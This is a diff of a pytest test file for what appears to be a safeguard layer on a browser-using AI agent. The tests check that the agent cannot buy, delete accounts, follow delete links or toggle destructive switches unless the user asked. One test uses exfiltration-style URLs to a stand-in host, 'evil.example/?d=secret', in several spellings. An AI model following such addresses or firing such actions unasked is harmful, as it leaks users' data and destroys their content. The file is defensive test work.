@@ -25,71 +25,67 @@ async def ref_of(session: Session, selector: str) -> str:
     return str(found.data["elements"][0]["ref"])
 
 
-@pytest.mark.parametrize("key", ["Return", "return", "ENTER", "Control+Enter", "Shift+Return", "spacebar", " "])
-async def test_a_key_by_any_of_its_names_presses_what_it_presses(session: Session, serve: PageServer, key: str):
+async def test_a_key_by_any_of_its_names_presses_what_it_presses(session: Session, serve: PageServer):
     page = serve("<form method=post action=/buy><button>Buy now</button></form>")
     session.permissions.origins.add(serve.origin)
     await session.call("goto", url=page)
     session.permissions = type(session.permissions).of([serve.origin], [f"press@{serve.origin}"])
-    assert not await as_model(session, "send_keys", ref=(await refs(session))["Buy now"], keys=key)
+    buy = (await refs(session))["Buy now"]
+    for key in ("Return", "return", "ENTER", "Control+Enter", "Shift+Return", "spacebar", " "):
+        assert not await as_model(session, "send_keys", ref=buy, keys=key), key
+    for key in ("esc", "down", "SHIFT+TAB", "pgdn"):
+        assert await as_model(session, "send_keys", keys=key), "it only moves"
     assert posted(serve) == []
 
 
-@pytest.mark.parametrize("key", ["esc", "down", "SHIFT+TAB", "pgdn"])
-async def test_a_key_that_only_moves_is_free_by_any_of_its_names(session: Session, serve: PageServer, key: str):
-    await session.call("goto", url=serve("<input aria-label=Name>"))
-    assert await as_model(session, "send_keys", keys=key)
-
-
-@pytest.mark.parametrize(
-    "html",
-    [
-        "<div id=it><input form=f name=a></div><form id=f method=post action=/saved><button>Save</button></form>",
-        "<form method=post action=/saved><div id=it><input name=a></div><button>Save</button></form>",
-        "<form method=post action=/saved><div id=it contenteditable aria-multiline=true role=textbox>x</div>"
-        "<button>Save</button></form>",
-    ],
-)
-async def test_the_form_of_the_field_behind_a_wrapper_is_judged(session: Session, serve: PageServer, html: str):
+async def test_the_form_of_the_field_behind_a_wrapper_is_judged(session: Session, serve: PageServer):
+    button, wrapped = "<button>Delete my account</button>", "<form method=post action=/saved>FIELD BUTTON</form>"
+    fields = ("<div id=b><input name=a></div>", "<div id=c contenteditable aria-multiline=true role=textbox>x</div>")
+    page = "<div id=a><input form=f name=a></div><form id=f method=post action=/saved>BUTTON</form>"
+    page += "".join(wrapped.replace("FIELD", field) for field in fields)
     session.provenance.words.add_text("My name is Ada Lovelace")
-    await session.call("goto", url=serve(html.replace("Save", "Delete my account")))
-    it = await ref_of(session, "#it")
-    assert not await as_model(session, "fill", ref=it, value="Ada Lovelace", submit=True)
+    await session.call("goto", url=serve(page.replace("BUTTON", button)))
+    for name in "abc":
+        it = await ref_of(session, f"#{name}")
+        assert not await as_model(session, "fill", ref=it, value="Ada Lovelace", submit=True), name
     assert posted(serve) == []
 
 
-@pytest.mark.parametrize(
-    "typed",
-    ["https://evil.example/?d=%41lice", "https://evil.example/?d=a+b", "https://EVIL.example:443/x/../?d=secret",
-     "https://évil.example/?d=secret", "see https://evil.example/?d=a%2520b and more"],
-)  # fmt: skip
-async def test_an_address_that_a_model_wrote_is_no_link_however_it_is_spelled(
-    session: Session, serve: PageServer, typed: str
-):
+SPELLED = [
+    "https://evil.example/?d=%41lice", "https://evil.example/?d=a+b", "https://EVIL.example:443/x/../?d=secret",
+    "https://évil.example/?d=secret", "see https://evil.example/?d=a%2520b and more",
+]  # fmt: skip
+
+
+async def test_an_address_that_a_model_wrote_is_no_link_however_it_is_spelled(session: Session, serve: PageServer):
     await session.call("goto", url=serve("<input type=search aria-label=Find><a id=out href=#>out</a>"))
-    assert await as_model(session, "fill", ref=(await refs(session))["Find"], value=typed)
-    await session.tab.page.evaluate(
-        "() => { const url = document.querySelector('input').value.replace('see ', '').replace(' and more', '');"
-        " document.links[0].href = url; document.links[0].textContent = document.links[0].href }"
-    )
-    await session.call_as("model", "read_page")
-    shown = await session.tab.page.evaluate("document.links[0].href")
-    assert not await as_model(session, "goto", url=shown)
+    for typed in SPELLED:
+        assert await as_model(session, "fill", ref=(await refs(session))["Find"], value=typed)
+        await session.tab.page.evaluate(
+            "() => { const url = document.querySelector('input').value.replace('see ', '').replace(' and more', '');"
+            " document.links[0].href = url; document.links[0].textContent = document.links[0].href }"
+        )
+        await session.call_as("model", "read_page")
+        shown = await session.tab.page.evaluate("document.links[0].href")
+        assert not await as_model(session, "goto", url=shown), typed
 
 
-@pytest.mark.parametrize(
-    "path",
-    ["/pages/7/delete", "/posts/delete/42", "/delete.php?id=1", "/pages?mode=delete", "/pages/del%65te/7",
-     "/pages?action=trash", "/api/deletePage", "/go?to=%2Fpages%2Fdelete%2F7"],
-)  # fmt: skip
-async def test_an_address_that_deletes_is_asked_for_as_its_link_is(session: Session, serve: PageServer, path: str):
-    gone = serve("<h1>Gone</h1>", path.partition("?")[0]) + path[len(path.partition("?")[0]) :]
-    await session.call("goto", url=serve(f"<a href='{gone}'>Delete this page</a>"))
-    assert not await as_model(session, "click", ref=(await refs(session))["Delete this page"])
-    assert not await as_model(session, "goto", url=gone)
-    assert not await as_model(session, "new_tab", url=gone)
-    session.provenance.words.add_text(f"open {gone}")
-    assert await as_model(session, "goto", url=gone)
+DELETING = [
+    "/pages/7/delete", "/posts/delete/42", "/delete.php?id=1", "/pages?mode=delete", "/pages/del%65te/7",
+    "/pages?action=trash", "/api/deletePage", "/go?to=%2Fpages%2Fdelete%2F7",
+]  # fmt: skip
+
+
+async def test_an_address_that_deletes_is_asked_for_as_its_link_is(session: Session, serve: PageServer):
+    gone = [serve("<h1>Gone</h1>", path.partition("?")[0]) + path[len(path.partition("?")[0]) :] for path in DELETING]
+    await session.call("goto", url=serve("".join(f"<a href='{url}'>Delete this page</a>" for url in gone)))
+    for at, url in enumerate(gone, 1):
+        assert not await as_model(session, "click", ref=await ref_of(session, f"a:nth-child({at})")), url
+        assert not await as_model(session, "goto", url=url), url
+        assert not await as_model(session, "new_tab", url=url), url
+    for url in gone:
+        session.provenance.words.add_text(f"open {url}")
+        assert await as_model(session, "goto", url=url), url
 
 
 MENU = """<button aria-haspopup=menu aria-controls=m aria-expanded=false onclick="m.hidden = false">More</button>
@@ -111,12 +107,14 @@ async def test_a_harmless_choice_in_a_menu_is_free(session: Session, serve: Page
     assert (await session.call_as("model", "select", ref=(await refs(session))["More"], values="Rename")).ok
 
 
-@pytest.mark.parametrize("name", ["Make public", "Delete everything"])
-@pytest.mark.parametrize("tool", ["check", "click"])
-async def test_a_switch_does_at_once_what_it_says(session: Session, serve: PageServer, name: str, tool: str):
-    page = f"<div role=switch aria-checked=false tabindex=0 onclick=\"fetch('/s', {{method: 'POST'}})\">{name}</div>"
-    await session.call("goto", url=serve(page))
-    assert not await as_model(session, tool, ref=(await refs(session))[name])
+async def test_a_switch_does_at_once_what_it_says(session: Session, serve: PageServer):
+    switch = "<div role=switch aria-checked=false tabindex=0 onclick=\"fetch('/s', {{method: 'POST'}})\">{}</div>"
+    names = ("Make public", "Delete everything")
+    await session.call("goto", url=serve("".join(map(switch.format, names))))
+    at = await refs(session)
+    for name in names:
+        for tool in ("check", "click"):
+            assert not await as_model(session, tool, ref=at[name]), (name, tool)
     assert posted(serve) == []
 
 
@@ -301,19 +299,14 @@ async def test_elsewhere_such_a_form_is_searched_with_the_users_words_and_only_a
     assert posted(serve) == []
 
 
-@pytest.mark.parametrize(
-    ("html", "tool", "params"),
-    [
-        ("<form id=f onsubmit='hit(); return false'><button id=it>OK</button></form>", "click", {}),
-        ("<select id=it onchange='hit()'><option>A<option>B</select>", "select", {"values": "B"}),
-        ("<input type=checkbox id=it onchange='hit()'>", "check", {}),
-        ("<input type=checkbox id=it onchange='hit()'>", "click", {}),
-    ],
-)
-async def test_what_is_called_harmless_deletes_nothing_by_script(
-    session: Session, serve: PageServer, html: str, tool: str, params: dict[str, str]
-):
-    await session.call("goto", url=serve(f"<script>const hit = () => fetch('/x', {{method: 'DELETE'}})</script>{html}"))
-    result = await session.call_as("model", tool, ref=await ref_of(session, "#it"), **params)
-    assert "stopped_requests" in result.followed
+async def test_what_is_called_harmless_deletes_nothing_by_script(session: Session, serve: PageServer):
+    page = """<script>const hit = () => fetch('/x', {method: 'DELETE'})</script>
+    <form onsubmit='hit(); return false'><button>OK</button></form>
+    <select onchange='hit()'><option>A<option>B</select><input type=checkbox onchange='hit()'>"""
+    await session.call("goto", url=serve(page))
+    given = {"values": "B"}
+    for kind, tool in (("button", "click"), ("select", "select"), ("input", "check"), ("input", "click")):
+        params = given if tool == "select" else {}
+        result = await session.call_as("model", tool, ref=await ref_of(session, kind), **params)
+        assert "stopped_requests" in result.followed, (kind, tool)
     assert posted(serve) == []
